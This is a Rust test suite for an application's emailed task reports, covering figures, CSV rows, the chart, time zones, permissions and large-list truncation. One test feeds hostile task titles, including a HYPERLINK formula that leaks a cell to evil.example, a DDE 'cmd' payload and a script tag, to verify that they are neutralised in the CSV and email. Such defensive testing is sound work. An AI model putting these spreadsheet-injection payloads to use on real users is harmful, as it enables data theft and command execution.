//! The report on tasks: it agrees with the figures and the lists, comes with a chart and
//! the tasks, and does no harm, whatever people typed.

use std::collections::BTreeSet;

use chrono::TimeDelta;
use muster::mail::SendError;
use serde_json::{Value, json};

use super::figures::{House, busy_house};
use crate::support::{
    Mail, Person, REQUEST_TASK_REPORT, SET_USER_ROLE, STATS, TASKS, TestApp, UPDATE_PROFILE,
    assert_mail,
};

/// The report that this person gets when they ask for one.
async fn report(app: &TestApp, person: &Person, input: Value) -> Mail {
    let input = json!({ "input": input });
    person.asks(REQUEST_TASK_REPORT, input).await.succeeds();
    app.runs_all_jobs().await;
    person.inbox().latest("task-report")
}

/// The figure at the end of the line that begins with this label.
#[track_caller]
fn figure(mail: &Mail, label: &str) -> u64 {
    let line = mail.text.lines().find(|line| line.starts_with(label));
    let line = line.unwrap_or_else(|| panic!("no {label} in {mail}"));
    line[label.len()..].trim().parse().unwrap()
}

/// The rows of the list, without its head.
fn rows(mail: &Mail) -> Vec<Vec<String>> {
    let text = std::str::from_utf8(&mail.attachment("text/csv").bytes).unwrap();
    let text = text.strip_prefix('\u{feff}').expect("no byte order mark");
    let mut reader = csv::Reader::from_reader(text.as_bytes());
    let head: Vec<_> = reader
        .headers()
        .unwrap()
        .iter()
        .map(str::to_owned)
        .collect();
    let columns = "id title status assignee deadline createdAt completedAt";
    assert_eq!(head.join(" "), columns);
    let row = |row: Result<csv::StringRecord, csv::Error>| {
        row.unwrap().iter().map(str::to_owned).collect()
    };
    reader.records().map(row).collect()
}

/// How many pixels there are of each of these colours.
fn count_pixels<const N: usize>(png: &[u8], colours: [[u8; 3]; N]) -> ([u32; 2], [usize; N]) {
    let mut reader = png::Decoder::new(std::io::Cursor::new(png))
        .read_info()
        .unwrap();
    let mut pixels = vec![0; reader.output_buffer_size().unwrap()];
    let info = reader.next_frame(&mut pixels).unwrap();
    let count = |colour: [u8; 3]| pixels.chunks(3).filter(|pixel| *pixel == colour).count();
    ([info.width, info.height], colours.map(count))
}

#[tokio::test]
async fn a_report_comes_by_mail_to_whoever_asked() {
    let House { app, ada, mia, .. } = &Box::pin(busy_house()).await;
    app.clock.advance(TimeDelta::minutes(1));
    let answer = mia.asks(REQUEST_TASK_REPORT, json!({})).await.succeeds();
    assert_eq!(answer.data("requestTaskReport.queued"), true);
    app.runs_all_jobs().await;
    assert_mail("task-report", &mia.inbox().last());
    assert_eq!(ada.inbox().count("task-report"), 0);
}

#[tokio::test]
async fn a_report_covers_the_time_that_was_asked_for() {
    let House { app, mia, .. } = &Box::pin(busy_house()).await;
    let report = async |since: i64, until: i64| {
        let (since, until) = (
            app.in_(TimeDelta::milliseconds(since)),
            app.in_(TimeDelta::milliseconds(until)),
        );
        let input = json!({ "input": { "since": since, "until": until } });
        mia.asks(REQUEST_TASK_REPORT, input).await.succeeds();
        app.runs_all_jobs().await;
        mia.inbox().last().subject
    };
    // Everything was created and completed just now, at 0: from the first instant, before the last.
    assert_eq!(
        report(0, 1).await,
        "Task report: 8 created, 2 completed, 2 overdue"
    );
    assert_eq!(
        report(-1, 0).await,
        "Task report: 0 created, 0 completed, 2 overdue"
    );
    assert_eq!(
        report(1, 2).await,
        "Task report: 0 created, 0 completed, 2 overdue"
    );
}

#[tokio::test]
async fn a_report_that_ends_before_it_begins_is_refused() {
    let app = TestApp::start().await;
    let mia = app.manager("mia").await;
    let (earlier, later) = (
        app.in_(TimeDelta::zero()),
        app.in_(TimeDelta::milliseconds(1)),
    );
    let input = json!({ "input": { "since": later, "until": earlier } });
    let answer = mia.asks(REQUEST_TASK_REPORT, input).await;
    answer.refused_for(&["input.until INVALID"]);
    let input = json!({ "input": { "since": earlier, "until": earlier } });
    mia.asks(REQUEST_TASK_REPORT, input).await.succeeds();
    app.runs_all_jobs().await;
}

#[tokio::test]
async fn a_report_is_not_sent_to_who_may_not_see_its_figures_any_more() {
    let House { app, ada, mia, .. } = &Box::pin(busy_house()).await;
    mia.asks(REQUEST_TASK_REPORT, json!({})).await.succeeds();
    let input = json!({ "userId": mia.id(), "role": "EMPLOYEE" });
    ada.asks(SET_USER_ROLE, json!({ "input": input }))
        .await
        .succeeds();
    app.runs_all_jobs().await;
    assert_eq!(mia.inbox().count("task-report"), 0);
}

#[tokio::test]
async fn every_report_that_is_asked_for_is_sent() {
    let app = TestApp::start().await;
    let mia = app.manager("mia").await;
    for _ in 0..2 {
        mia.asks(REQUEST_TASK_REPORT, json!({})).await.succeeds();
    }
    app.runs_all_jobs().await;
    assert_eq!(mia.inbox().count("task-report"), 2);
}

#[tokio::test]
async fn a_report_agrees_with_the_figures_of_the_same_instant() {
    let House { app, mia, eve, .. } = &Box::pin(busy_house()).await;
    // By then the task that is due in one hour is overdue, too.
    app.clock.advance(TimeDelta::hours(2));
    mia.logs_in().await.succeeds();
    let answer = mia.asks(STATS, json!({})).await.succeeds();
    let stats = answer.data("stats");
    let mail = report(app, mia, json!({})).await;
    let of_status = |status: &str| {
        let all = stats["tasksByStatus"].as_array().unwrap();
        let figure = all.iter().find(|figure| figure["status"] == status);
        figure.unwrap()["count"].clone()
    };
    assert_eq!(of_status("PENDING"), figure(&mail, "Pending"));
    assert_eq!(of_status("IN_PROGRESS"), figure(&mail, "In progress"));
    assert_eq!(stats["tasksOverdue"], figure(&mail, "Overdue"));
    assert_eq!(
        stats["tasksUnassigned"],
        figure(&mail, "Assigned to nobody")
    );
    assert_eq!(stats["tasksTotal"], figure(&mail, "Created"));
    assert_eq!(of_status("COMPLETED"), figure(&mail, "Completed"));
    assert_eq!(stats["tasksOverdue"], 3);

    // Eve is the only one who has any.
    let of_eve = mail.text.lines().filter(|line| line.starts_with("eve "));
    let of_eve: Vec<Vec<&str>> = of_eve
        .map(|line| line.split_whitespace().collect())
        .collect();
    assert_eq!(of_eve, [["eve", "5", "2", "1"]]);
    for (filter, figure) in [
        (json!({ "status": ["PENDING", "IN_PROGRESS"] }), "5"),
        (json!({ "overdue": true }), "2"),
        (json!({ "status": ["COMPLETED"] }), "1"),
    ] {
        let mut filter = filter;
        filter["assigneeId"] = json!(eve.id());
        let answer = mia.asks(TASKS, json!({ "filter": filter })).await;
        assert_eq!(
            answer.data("tasks.totalCount").to_string(),
            figure,
            "{filter}"
        );
    }
}

#[tokio::test]
async fn a_report_has_a_chart_of_what_happened_and_says_it_in_words() {
    let House { app, mia, .. } = &Box::pin(busy_house()).await;
    app.clock.advance(TimeDelta::minutes(1));
    let mail = report(app, mia, json!({})).await;
    let chart = mail.attachment("image/png");
    let (blue, orange, white) = ([26, 86, 196], [224, 138, 0], [255; 3]);
    let (size, [created, completed, background]) =
        count_pixels(&chart.bytes, [blue, orange, white]);
    assert_eq!(size, [1120, 560]);
    // 8 tasks were created, and 2 completed, all of them on one day.
    assert!(created > 10_000, "{created}");
    assert!(
        completed.abs_diff(created / 4) < created / 20,
        "{completed} of {created}"
    );
    assert!((400_000..620_000).contains(&background), "{background}");
    let id = chart.content_id.as_ref().unwrap();
    assert!(mail.html.contains(&format!("src=\"cid:{id}\"")), "{mail}");
    let words = "Tasks per day from 29 December 2025 to 5 January 2026: 8 created, the most on \
                 Monday, 5 January (8); 2 completed, the most on Monday, 5 January (2).";
    assert!(mail.text.replace('\n', " ").contains(words), "{mail}");
    assert!(
        mail.html.contains(&format!("alt=\"Bar chart. {words}\"")),
        "{mail}"
    );
}

#[tokio::test]
async fn a_report_goes_by_the_calendar_of_who_asked() {
    let app = TestApp::start().await;
    let mia = app.manager("mia").await;
    // 20:00 in London, and 02:00 of the next day in Dhaka.
    app.clock.advance(TimeDelta::hours(11));
    mia.logs_in().await.succeeds();
    mia.creates_task("Late").await;
    app.clock.advance(TimeDelta::minutes(1));
    for (zone, day, file) in [
        ("UTC", "Monday, 5 January", "tasks-2026-01-05.csv"),
        ("Asia/Dhaka", "Tuesday, 6 January", "tasks-2026-01-06.csv"),
    ] {
        let input = json!({ "input": { "timeZone": zone } });
        mia.asks(UPDATE_PROFILE, input).await.succeeds();
        let mail = report(&app, &mia, json!({ "since": app.in_(TimeDelta::days(-2)) })).await;
        let words = format!("1 created, the most on {day} (1)");
        assert!(mail.text.replace('\n', " ").contains(&words), "{mail}");
        assert_eq!(mail.attachment("text/csv").name, file);
    }
}

#[tokio::test]
async fn a_report_lists_what_is_open_and_what_happened_in_its_time() {
    let app = TestApp::start().await;
    let (mia, eve) = (app.manager("mia").await, app.employee("eve").await);
    let due = app.in_(TimeDelta::days(30));
    let old = mia.creates_task("Old and open").await;
    let forgotten = mia.creates_task("Old and done").await;
    mia.sets_status(&forgotten, "COMPLETED").await;
    let late = mia.creates_task("Old and done late").await;
    app.lets_pass(TimeDelta::days(20)).await;
    mia.logs_in().await.succeeds();
    let since = app.in_(TimeDelta::zero());
    let input = json!({ "title": "Zoë's \"list\", new", "deadline": due, "assigneeId": eve.id() });
    let new = mia.creates_task_with(input).await;
    mia.sets_status(&late, "COMPLETED").await;
    let done = mia.creates_task("New and done after").await;
    app.lets_pass(TimeDelta::minutes(2)).await;
    let until = app.in_(TimeDelta::minutes(-1));
    mia.sets_status(&done, "COMPLETED").await;
    let completed_after = app.in_(TimeDelta::zero());

    let mail = report(&app, &mia, json!({ "since": since, "until": until })).await;
    let rows = rows(&mail);
    let ids: Vec<&str> = rows.iter().map(|row| row[0].as_str()).collect();
    // Open ones first, by deadline; then what was completed in that time, and then what was not.
    assert_eq!(ids, [&new, &old, &late, &done]);
    assert_eq!(
        rows[0][1..],
        ["Zoë's \"list\", new", "PENDING", "eve", &due, &since, ""]
    );
    assert_eq!(rows[2][1..3], ["Old and done late", "COMPLETED"]);
    assert_eq!(rows[2][6], since);
    assert_eq!(rows[3][6], completed_after);
    let words = "lists the 4 tasks that are open, or were created or completed in this time";
    assert!(mail.text.replace('\n', " ").contains(words), "{mail}");
    assert_eq!(
        (figure(&mail, "Created"), figure(&mail, "Completed")),
        (2, 1)
    );
}

#[tokio::test]
async fn no_title_becomes_a_formula_another_cell_or_markup() {
    let app = TestApp::start().await;
    let mia = app.manager("mia").await;
    let hostile = [
        "=HYPERLINK(\"https://evil.example/?\"&A1,\"Click\")",
        "+1+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(1+1)*cmd",
        "\",\"PENDING\",\"mia",
        "a;=1+1;b",
        "<script>alert(1)</script>",
        "\u{ff1d}1+1",
    ];
    for title in hostile {
        mia.creates_task(title).await;
    }
    let input = json!({ "firstName": "=1+1", "lastName": "<b>Mia</b> https://evil.example" });
    mia.asks(UPDATE_PROFILE, json!({ "input": input }))
        .await
        .succeeds();
    let task = mia.creates_task("Mine").await;
    mia.assigns(&task, &mia).await;
    let mail = report(&app, &mia, json!({})).await;
    let rows = rows(&mail);
    assert_eq!(rows.len(), hostile.len() + 1);
    let titles: BTreeSet<&str> = rows.iter().map(|row| row[1].as_str()).collect();
    for title in hostile {
        let harmless = match title {
            "a;=1+1;b" => "a;'=1+1;b".to_owned(),
            _ if title.starts_with(['=', '+', '-', '@', '\u{ff1d}']) => format!("'{title}"),
            _ => title.to_owned(),
        };
        assert!(
            titles.contains(harmless.as_str()),
            "{harmless} in {titles:?}"
        );
    }
    for row in &rows {
        assert_eq!(row.len(), 7);
        assert_eq!(row[2], "PENDING");
        assert!(!row[1].starts_with(['=', '+', '-', '@']), "{row:?}");
    }
    for body in [&mail.text, &mail.html] {
        assert!(!body.contains("https://evil"), "{body}");
    }
    assert!(!mail.html.contains("<b>Mia"), "{mail}");
}

#[tokio::test]
async fn a_report_on_a_time_in_which_nothing_happened_says_so() {
    let app = TestApp::start().await;
    let mia = app.manager("mia").await;
    let mail = report(&app, &mia, json!({})).await;
    assert_mail("task-report-of-nothing", &mail);
    assert_eq!(mail.attachments, []);

    // Something is open, but nothing happened at that time.
    mia.creates_task("Open").await;
    let before = json!({ "until": app.in_(TimeDelta::days(-1)) });
    let mail = report(&app, &mia, before).await;
    let words = "No task was created or completed in this time.";
    assert!(mail.text.contains(words), "{mail}");
    assert!(!mail.html.contains("<img"), "{mail}");
    assert_eq!(figure(&mail, "Pending"), 1);
    assert_eq!(rows(&mail).len(), 1);
}

#[tokio::test]
async fn a_report_on_all_time_has_few_bars() {
    let House { app, mia, .. } = &Box::pin(busy_house()).await;
    let ever = json!({ "since": "0001-01-01T00:00:00Z", "until": "9999-12-31T23:59:59.999Z" });
    let mail = report(app, mia, ever).await;
    // From the first task on, and until now.
    let words = "Tasks per day on 5 January 2026: 8 created; 2 completed.";
    assert!(mail.text.replace('\n', " ").contains(words), "{mail}");
    assert_eq!(
        (figure(&mail, "Created"), figure(&mail, "Completed")),
        (8, 2)
    );
    assert_eq!(mail.attachment("text/csv").name, "tasks-9999-12-31.csv");
}

/// Such a row of the database, and such a mail, are large: both engines and a retry take them.
#[tokio::test]
async fn a_list_of_very_many_tasks_is_cut_and_sent_again_as_the_same_bytes() {
    let app = TestApp::start().await;
    let mia = app.manager("mia").await;
    let (id, created) = (
        app.database().either(
            "unhex(printf('%032x', n))",
            "lpad(to_hex(n), 32, '0')::uuid",
        ),
        app.database().either(
            "'2026-01-05T08:00:00+00:00'",
            "timestamptz '2026-01-05T08:00:00Z'",
        ),
    );
    let insert = |first: u32, last: u32, title: &str| {
        format!(
            "INSERT INTO tasks (id, title, title_key, status, created_at, updated_at, version) \
             WITH RECURSIVE numbers (n) AS \
             (SELECT {first} UNION ALL SELECT n + 1 FROM numbers WHERE n < {last}) \
             SELECT {id}, '{title} ' || n, '{title} ' || n, 'PENDING', {created}, {created}, 1 \
             FROM numbers"
        )
    };
    app.sql(insert(
        1,
        10_001,
        &"Paint the chairs and count the marbles, ".repeat(3),
    ))
    .await;
    let mail = report(&app, &mia, json!({})).await;
    assert_eq!(rows(&mail).len(), 10_000);
    let words = "lists 10000 of the 10001 tasks";
    assert!(mail.text.replace('\n', " ").contains(words), "{mail}");
    let sent = app.outbox.last().unwrap().message;
    assert!(
        (2_000_000..5_000_000).contains(&sent.len()),
        "{} bytes",
        sent.len()
    );

    // Titles as long as can be: now the bytes are what ends the list.
    app.sql("DELETE FROM tasks").await;
    app.sql(insert(1, 9_000, &"\u{1f3a8}".repeat(245))).await;
    let failure = SendError::transient("451 later");
    app.outbox.fail_next(1, &failure);
    mia.asks(REQUEST_TASK_REPORT, json!({})).await.succeeds();
    app.runs_all_jobs().await;
    assert_eq!(mia.inbox().count("task-report"), 1);
    let kept = "SELECT CAST(length(message) AS text) FROM deliveries WHERE state = 'DUE'";
    let kept = app.database().reads(kept).await;
    app.sql("DELETE FROM tasks").await;
    app.lets_pass(TimeDelta::minutes(1)).await;
    let sent = app.outbox.last().unwrap().message;
    assert_eq!(kept, [sent.len().to_string()]);
    assert!(
        (3_000_000..5_000_000).contains(&sent.len()),
        "{} bytes",
        sent.len()
    );
    let listed = rows(&mia.inbox().latest("task-report")).len();
    assert!((2_000..4_000).contains(&listed), "{listed} rows");
}
